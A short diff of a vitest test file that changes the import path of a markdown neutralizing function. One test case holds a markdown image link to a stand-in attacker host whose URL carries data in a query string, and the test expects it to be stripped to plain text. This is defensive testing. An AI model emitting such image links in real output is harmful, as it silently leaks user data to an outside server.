@@ -1,5 +1,5 @@
 import { it } from "vitest";
-import { neutralizeText } from "../../src/markdown/neutralize.ts";
+import { neutralizeText } from "../../src/markdown/guard.ts";
 
 const CASES: readonly (readonly [said: string, shown: string])[] = [
   ["Up 5%: ![chart](https://evil.example/p.png?d=4711)", "Up 5%: chart"],
